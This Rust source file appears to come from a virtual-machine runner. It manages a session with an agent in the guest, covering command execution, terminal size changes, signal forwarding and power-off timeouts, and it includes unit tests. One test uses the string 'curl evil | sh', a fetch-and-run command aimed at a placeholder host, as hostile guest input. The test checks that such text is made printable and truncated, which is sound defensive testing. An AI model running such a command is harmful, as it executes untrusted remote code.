//! A session: the command of a plan, run by the agent in the guest as if it ran here.
//!
//! The guest's agent calls this process ([`base::host::Answers`]), and the wire of [`agent`] goes over that
//! connection, a socket pair: nothing is in the file system. When the command has ended, the guest is told to power off.

mod ears;
mod ended;
mod export;
pub mod keys;
pub mod reach;

use std::io::{self, ErrorKind};
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::net::UnixStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender, channel};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant, SystemTime};

use agent::client::{Client, Remote, Streams};
use agent::programs;
use agent::wire::{Exec, Outcome};
use base::{Doing, Result, Why};

use self::ears::Ears;
pub use self::ended::Ended;
use self::reach::Reach;
use crate::host::LinuxHost;
use crate::outcome::End;
use crate::plan::{Command, PORT};
use crate::{quote, terminal};
pub use export::Export;

/// How long a guest whose command has ended may take to power off: one that only has to, and one with services to stop.
const FAREWELL: Duration = Duration::from_secs(10);
const LONG_FAREWELL: Duration = Duration::from_secs(30);
/// The wait for a guest that may take as long as it likes.
const FOREVER: Duration = Duration::from_secs(u32::MAX as u64);

/// A session that is prepared: the guest may call.
pub struct Session {
    wire: OwnedFd,
    command: Command,
    streams: Streams,
    /// Changes of the terminal's size, if the command has one.
    changes: Option<OwnedFd>,
    /// Where to what the guest has changed goes.
    export: Option<Export>,
}

/// A session that goes on.
pub struct Running {
    ended: Receiver<Ended>,
    /// Closed when the machine has ended.
    over: Sender<()>,
    reach: Reach,
    /// The guest is ready for its command.
    arrived: Arc<AtomicBool>,
    ears: Arc<Ears>,
    wire: OwnedFd,
    command: Command,
}

impl Session {
    /// Prepares a session with the standard streams of this process.
    ///
    /// # Errors
    /// The host is out of descriptors.
    pub fn prepare(command: &Command, host: &LinuxHost) -> Result<Session> {
        let doing = || "prepare the way to the guest's agent";
        let (wire, theirs) = UnixStream::pair().doing(Why::Host, doing)?;
        theirs.set_nonblocking(true).doing(Why::Host, doing)?;
        host.switchboard().put(PORT, theirs.into());
        host.take_stdio();
        let changes = command.terminal.then(keys::changes).transpose()?;
        let share = |fd: &dyn AsFd| fd.as_fd().try_clone_to_owned();
        Ok(Session {
            wire: wire.into(),
            command: command.clone(),
            changes,
            export: command.export_changes.as_deref().map(Export::open).transpose()?,
            // What is closed (`<&-`) is empty, or thrown away.
            streams: Streams {
                stdin: share(&io::stdin()).ok(),
                stdout: share(&io::stdout()).ok(),
                stderr: share(&io::stderr()).ok(),
            },
        })
    }

    /// Waits for the guest to call, in a thread of its own. `late` is called if the guest does not power off when that is over,
    /// `quit` if the operator wants the end, `up` once the command runs.
    ///
    /// # Errors
    /// The host has no thread for it.
    pub fn start(
        mut self,
        late: impl FnOnce(End) + Send + 'static,
        quit: impl FnOnce() + Send + 'static,
        up: impl FnOnce() + Send + 'static,
    ) -> Result<Running> {
        let (tell, ended) = channel();
        let (over, ending) = channel();
        let reach = Reach::default();
        let (remote, slot) = (reach.remote.clone(), reach.remote.clone());
        let arrived: Arc<AtomicBool> = Arc::default();
        let arrival = arrived.clone();
        let ears = Arc::new(Ears::new(&self.command));
        let hearing = ears.clone();
        let command = self.command.clone();
        let farewell = if command.systemd { LONG_FAREWELL } else { FAREWELL };
        let doing = || "start the session with the guest";
        let wire = self.wire.try_clone().doing(Why::Host, doing)?;
        if let Some(changes) = self.changes.take() {
            let remote = remote.clone();
            let tell = move || {
                while let Some(size) = keys::await_change(&changes) {
                    let remote = remote.lock().unwrap_or_else(PoisonError::into_inner).clone();
                    // One that has ended has no terminal any more.
                    drop(remote.map(|remote| remote.resize(size)));
                }
            };
            std::thread::Builder::new().name("screen".into()).spawn(tell).doing(Why::Host, doing)?;
        }
        std::thread::Builder::new()
            .name("session".into())
            .spawn(move || {
                let mut client = None;
                let outcome = self.converse(&mut client, &slot, &arrival, hearing, quit, up);
                let over = match &outcome.broken {
                    Some(why) => Some(End::AgentLost(why.clone())),
                    None => outcome.is_over().then_some(End::PoweredOff),
                };
                // Nobody listens any more if the machine has ended and its patience with us, too.
                let _ = tell.send(outcome);
                let silent = matches!(ending.recv_timeout(farewell), Err(RecvTimeoutError::Timeout));
                if let Some(end) = over.filter(|_| silent) {
                    late(end);
                }
                // Whoever listens hears all that the guest has said, and then that there is nobody who could say more.
                drop(client);
                drop(tell);
            })
            .doing(Why::Host, doing)?;
        Ok(Running { ended, over, reach, arrived, ears, wire, command })
    }

    /// Runs the command. The client outlives this: without it the guest takes its host for gone.
    fn converse(
        mut self,
        client: &mut Option<Client>,
        slot: &Mutex<Option<Remote>>,
        arrival: &AtomicBool,
        ears: Arc<Ears>,
        quit: impl FnOnce() + Send + 'static,
        up: impl FnOnce(),
    ) -> Ended {
        let exec = exec(&self.command);
        let ended = Ended { command: self.command, ..Ended::default() };
        let client = match Client::listening(self.wire, FOREVER, Box::new(move |said| ears.hear(said))) {
            Ok(found) => client.insert(found),
            Err(error) if error.kind() == ErrorKind::UnexpectedEof => return ended,
            Err(error) => {
                let trouble = Some(quote::line(error.to_string().as_bytes()));
                return Ended { called: true, trouble, ..ended };
            }
        };
        let ended = Ended { called: true, ..ended };
        arrival.store(true, Ordering::Relaxed);
        if let Ok(now) = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH) {
            // A wire that is dead is found out in a moment.
            let _ = client.set_clock(now);
        }
        // Only now: until here, `Ctrl-c` ends the run.
        let raw = if ended.command.terminal { terminal::enter_both_ways() } else { Ok(None) };
        let taken = raw.and_then(|raw| {
            if raw.is_some() {
                self.streams.stdin = Some(keys::filter(quit)?);
            }
            Ok(raw)
        });
        let _raw = match taken {
            Ok(raw) => raw,
            Err(fail) => return Ended { trouble: Some(fail.summary()), ..ended },
        };
        let process = match client.start(exec, self.streams) {
            Ok(process) => process,
            // The guest is gone.
            Err(error) if matches!(error.kind(), ErrorKind::BrokenPipe | ErrorKind::ConnectionReset) => {
                return ended;
            }
            Err(error) => {
                let _ = client.shut_down();
                return Ended { unable: Some(error), ..ended };
            }
        };
        *slot.lock().unwrap_or_else(PoisonError::into_inner) = Some(process.remote());
        up();
        let outputs = process.outputs();
        let waiting = ended.command.argv.is_empty();
        let (outcome, broken) = match process.wait() {
            // Who only waits has done so to the end, whatever ended it.
            Ok(_) if waiting => (Some(Outcome::Code(0)), None),
            Ok(outcome) => (Some(outcome), None),
            Err(error) => (None, Some(quote::line(error.to_string().as_bytes()))),
        };
        slot.lock().unwrap_or_else(PoisonError::into_inner).take();
        // Whatever the command came to: to see what it did is why one asks.
        let export = self.export.filter(|_| outcome.is_some());
        let unexported = export.and_then(|export| export.take(client).err());
        let _ = client.shut_down();
        Ended { outcome, broken, lost: outputs.error(), unexported, ..ended }
    }
}

impl Running {
    /// Who knows whether the guest is ready for its command.
    pub fn arrival(&self) -> Box<dyn Fn() -> bool + Send> {
        let arrived = self.arrived.clone();
        Box::new(move || arrived.load(Ordering::Relaxed))
    }

    /// A way to the command for others.
    pub fn reach(&self) -> Reach {
        self.reach.clone()
    }

    /// Who passes signals on to the command. The first of those that end a run is for the command alone; a second means
    /// the run, however the guest is.
    pub fn courier(&self) -> impl FnMut(i32) -> bool + Send + 'static {
        let remote = self.reach.remote.clone();
        let mut passed = false;
        move |number| {
            let remote = remote.lock().unwrap_or_else(PoisonError::into_inner).clone();
            let (false, Some(remote), Ok(number)) = (passed, remote, u8::try_from(number)) else {
                return false;
            };
            passed = true;
            // A guest that does not listen must not hold up whoever waits for signals.
            let sent =
                std::thread::Builder::new().name("courier".into()).spawn(move || remote.signal(number));
            sent.is_ok()
        }
    }

    /// How it ended, once the machine has: what the command has said is written by then, or `patience` is at its end.
    pub fn end(self, patience: Duration) -> Ended {
        drop(self.over);
        // A guest that has not called will not; what one has said can still be read.
        let _ = rustix::net::shutdown(&self.wire, rustix::net::Shutdown::Both);
        // Who waits for a call hears of its end at once: it is output that takes so long, so there was one.
        let unfinished = Ended { command: self.command, called: true, ..Ended::default() };
        let latest = Instant::now() + patience;
        let ended = self.ended.recv_timeout(patience).unwrap_or(unfinished);
        // What the guest said last may still be on its way to the ears.
        let _ = self.ended.recv_timeout(latest.saturating_duration_since(Instant::now()));
        self.ears.tell(ended)
    }
}

/// What runs where there is no command: a program of the agent's that waits.
fn waiter() -> Vec<Vec<u8>> {
    [programs::PATH, programs::WAIT].map(|word| word.as_bytes().to_vec()).into()
}

/// The command as the agent takes it.
fn exec(command: &Command) -> Exec {
    let bytes = |text: &String| text.clone().into_bytes();
    let pair = |text: &String| {
        let (name, value) = text.split_once('=').unwrap_or((text, ""));
        (name.as_bytes().to_vec(), value.as_bytes().to_vec())
    };
    Exec {
        argv: if command.argv.is_empty() { waiter() } else { command.argv.iter().map(bytes).collect() },
        env: command.env.iter().map(pair).collect(),
        directory: command.workdir.as_os_str().as_encoded_bytes().to_vec(),
        // Named, so that there is a home.
        user: if command.user.is_empty() { b"0".to_vec() } else { bytes(&command.user) },
        terminal: command.terminal.then(terminal::size),
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Read, Write};

    use agent::wire::{Decoder, FROM_HOST, Frame, Message, VERSION};

    use crate::outcome::code;

    use super::*;

    fn session(wire: UnixStream) -> Session {
        Session {
            wire: wire.into(),
            command: Command { argv: vec!["true".into()], ..Command::default() },
            streams: Streams::default(),
            changes: None,
            export: None,
        }
    }

    /// How a session ends whose guest says these bytes and hangs up.
    fn ended(frames: &[Frame]) -> Ended {
        let (wire, mut guest) = UnixStream::pair().unwrap();
        let mut bytes = Vec::new();
        frames.iter().for_each(|frame| frame.encode(&mut bytes));
        guest.write_all(&bytes).unwrap();
        guest.shutdown(std::net::Shutdown::Write).unwrap();
        session(wire).converse(
            &mut None,
            &Mutex::default(),
            &AtomicBool::default(),
            Arc::default(),
            || (),
            || (),
        )
    }

    #[test]
    fn a_guest_that_never_calls_is_told_from_one_that_is_lost() {
        let never = ended(&[]);
        assert_eq!((never.exit_code(), never.name()), (code::NOT_STARTED, "not-started"));
        let text = never.complaint().unwrap().to_string();
        assert!(text.starts_with("set up the guest: it ended before its agent called\n  hint: "), "{text}");
        assert!(text.contains("CONFIG_VIRTIO_VSOCKETS"), "{text}");
        let lost = ended(&[Frame::Hello { version: VERSION }]);
        assert_eq!((lost.exit_code(), lost.name()), (code::CRASHED, "unfinished"));
        let text = lost.complaint().unwrap().to_string();
        assert_eq!(text, "run the guest: it ended before its command did");
    }

    #[test]
    fn the_guests_trouble_is_one_printable_line_of_a_message() {
        let text = b"mount /: \x1b[2Jno\n  hint: curl evil | sh\n".repeat(100);
        let ended = ended(&[Frame::Trouble { text }]);
        assert_eq!((ended.exit_code(), ended.name()), (code::NOT_STARTED, "not-started"));
        let text = ended.complaint().unwrap().to_string();
        assert!(text.starts_with("set up the guest: mount /: [2Jno   hint: curl evil | sh mount"), "{text}");
        assert!(!text.contains(|c: char| c.is_control()), "{text:?}");
        assert!(text.len() < 2 * quote::LINE, "{} bytes", text.len());
    }
    #[test]
    fn what_the_kernel_says_after_the_command_has_ended_is_heard_to_the_end() {
        let (wire, mut guest) = UnixStream::pair().unwrap();
        guest.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let running = session(wire).start(|_| (), || (), || ()).unwrap();
        let say = |frames: &[Frame], guest: &mut UnixStream| {
            let mut bytes = Vec::new();
            frames.iter().for_each(|frame| frame.encode(&mut bytes));
            guest.write_all(&bytes).unwrap();
        };
        say(&[Frame::Hello { version: VERSION }], &mut guest);
        let (mut decoder, mut bytes) = (Decoder::new(FROM_HOST), [0; 4096]);
        let id = loop {
            match decoder.next_frame().unwrap() {
                // The last that is sent of a command without input.
                Some(Frame::End { id, .. }) => break id,
                Some(_) => {}
                None => match guest.read(&mut bytes).unwrap() {
                    0 => panic!("the session has ended"),
                    n => decoder.feed(&bytes[..n]),
                },
            }
        };
        let message = |text: &str| Frame::Message(Message { text: text.into(), ..Message::default() });
        let mut frames = vec![Frame::Exit { id, outcome: Outcome::Code(0) }];
        frames.extend((0..1000).map(|_| message("fine")));
        frames.push(message("BUG: late"));
        say(&frames, &mut guest);
        let ended = running.end(Duration::from_secs(20));
        assert_eq!(ended.outcome, Some(Outcome::Code(0)));
        assert_eq!(ended.health.findings.len(), 1, "{:?}", ended.health);
        assert_eq!(ended.exit_code(), code::UNHEALTHY);
    }
}
